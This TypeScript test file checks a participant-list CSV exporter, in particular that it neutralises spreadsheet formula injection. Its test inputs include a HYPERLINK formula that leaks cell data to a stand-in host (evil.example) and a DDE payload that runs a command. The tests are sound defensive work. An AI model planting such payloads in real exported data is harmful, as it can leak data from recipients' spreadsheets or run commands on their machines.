import { describe, it, expect } from 'vitest';
import { intlFor } from '../../i18n.js';
import { isPlausiblePhone, participantListCsv, safeCell } from './csv.js';
import type { ListedParticipant, ParticipantList } from './types.js';

function person(overrides: Partial<ListedParticipant> = {}): ListedParticipant {
  return {
    registrationId: 'r-1',
    title: 'Sr.',
    givenName: 'Łukasz',
    familyName: 'Ñúñez',
    position: 'Director General',
    institution: 'Ministerio de Relaciones Exteriores',
    category: 'Gobierno',
    isHead: true,
    email: 'lukasz@example.org',
    phone: '+1 (202) 555-0100',
    ...overrides,
  };
}

function list(overrides: Partial<ParticipantList> = {}): ParticipantList {
  return {
    lang: 'es',
    meetingTitle: 'Reunión Continental OEA/OIM',
    dateRange: '6–8 de abril de 2005',
    generatedAt: new Date('2005-03-15T15:00:00Z'),
    withContacts: true,
    sections: [
      {
        group: 'member_states',
        heading: 'Argentina',
        participants: [
          person(),
          person({ registrationId: 'r-2', title: null, givenName: 'Дмитрий', familyName: 'Иванов', isHead: false }),
        ],
      },
      {
        group: 'experts',
        heading: 'Expertos',
        participants: [
          person({ registrationId: 'r-3', givenName: 'Ελένη', familyName: 'Παπαδοπούλου', isHead: false }),
        ],
      },
    ],
    ...overrides,
  };
}

/** A small RFC 4180 reader: enough to read back what the writer produced. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('safeCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\tTab', `'\tTab`],
    ['\rCR', `'\rCR`],
    ['  =1+1', `'  =1+1`],
  ])('neutralises %j', (value, expected) => {
    expect(safeCell(value)).toBe(expected);
  });

  it('leaves ordinary text, hyphenated names and inner signs alone', () => {
    for (const value of ['Ñúñez', 'Jean-Pierre', 'a=b', 'x@example.org', 'Дмитрий', '(202) 555-0100', '']) {
      expect(safeCell(value)).toBe(value);
    }
  });

  it('marks a phone that starts with + as text too, keeping every digit and sign', () => {
    expect(safeCell('+1 (202) 555-0100')).toBe(`'+1 (202) 555-0100`);
    expect(safeCell('+12025550100')).toBe(`'+12025550100`);
  });
});

describe('isPlausiblePhone', () => {
  it('accepts phone numbers as people write them', () => {
    for (const phone of ['+1 (202) 555-0100', '+54 11 5300-4000', '202.555.0100', '+12025550100']) {
      expect(isPlausiblePhone(phone)).toBe(true);
    }
  });

  it('rejects anything with letters, operators or too few digits', () => {
    for (const value of ['+cmd', '-2+3', '=1+1', '+1 202 555 0100 ext 5', '+1-2', '@SUM(A1)', '+1\t2025550100x']) {
      expect(isPlausiblePhone(value)).toBe(false);
    }
  });
});

describe('participantListCsv', () => {
  it('starts with a byte order mark, ends lines with CRLF and translates the header', () => {
    const csv = participantListCsv(list());
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);

    const [header] = parseCsv(csv.slice(1));
    const es = intlFor('es');
    expect(header).toEqual(
      [
        'group',
        'delegation',
        'category',
        'head',
        'title',
        'familyName',
        'givenName',
        'position',
        'institution',
        'email',
        'phone',
      ].map((key) => es.formatMessage({ id: `participants.column.${key}` })),
    );
    expect(header).toContain('Apellidos');
  });

  it('writes one row per participant in list order, with names in any script intact', () => {
    const rows = parseCsv(participantListCsv(list()).slice(1));
    expect(rows).toHaveLength(4);
    expect(rows[1]).toEqual([
      'Estados miembros',
      'Argentina',
      'Gobierno',
      'Sí',
      'Sr.',
      'Ñúñez',
      'Łukasz',
      'Director General',
      'Ministerio de Relaciones Exteriores',
      'lukasz@example.org',
      `'+1 (202) 555-0100`,
    ]);
    expect(rows[2]?.slice(0, 7)).toEqual(['Estados miembros', 'Argentina', 'Gobierno', 'No', '', 'Иванов', 'Дмитрий']);
    expect(rows[3]?.slice(0, 7)).toEqual(['Expertos', 'Expertos', 'Gobierno', 'No', 'Sr.', 'Παπαδοπούλου', 'Ελένη']);
  });

  it('leaves out email and phone in the public list', () => {
    const rows = parseCsv(participantListCsv(list({ withContacts: false, lang: 'fr' })).slice(1));
    expect(rows[0]).toHaveLength(9);
    expect(rows[0]).not.toContain(intlFor('fr').formatMessage({ id: 'participants.column.email' }));
    expect(rows[1]?.[3]).toBe('Oui');
    expect(participantListCsv(list({ withContacts: false }))).not.toContain('lukasz@example.org');
  });

  it('neutralises formulas in every column, and quotes commas, quotes and line breaks', () => {
    const csv = participantListCsv(
      list({
        sections: [
          {
            group: 'other_organizations',
            heading: '=HYPERLINK("http://evil.example","x")',
            participants: [
              person({
                title: '@SUM(A1)',
                givenName: '+cmd',
                familyName: '-2+3',
                position: '\tTab',
                institution: '\rCR',
                category: 'Sociedad civil, "ONG"',
                email: 'a;=cmd()',
                phone: '=1+1',
              }),
            ],
          },
        ],
      }),
    );
    const row = parseCsv(csv.slice(1))[1];
    expect(row).toEqual([
      'Otras organizaciones',
      `'=HYPERLINK("http://evil.example","x")`,
      'Sociedad civil, "ONG"',
      'Sí',
      `'@SUM(A1)`,
      `'-2+3`,
      `'+cmd`,
      `'\tTab`,
      `'\rCR`,
      'a;=cmd()',
      `'=1+1`,
    ]);
    // Every field is quoted, so no separator inside a value can open a cell that starts with =.
    expect(csv).toContain(',"a;=cmd()",');
    expect(csv).toContain('"Sociedad civil, ""ONG"""');
  });
});
